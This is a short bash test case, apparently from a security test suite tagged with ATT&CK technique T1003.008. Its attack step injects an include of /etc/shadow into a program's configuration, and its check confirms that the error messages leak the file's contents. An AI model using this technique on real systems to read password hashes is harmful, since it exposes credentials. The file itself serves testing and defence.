# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1003.008
about="the configuration includes /etc/shadow, and the errors quote it"
attack() {
	configure '$a\include: "/etc/shadow"'
	cp "$state/errors" "$state/answer"
}
effect() { grep -q "unknown keyword 'root'" "$state/answer"; }
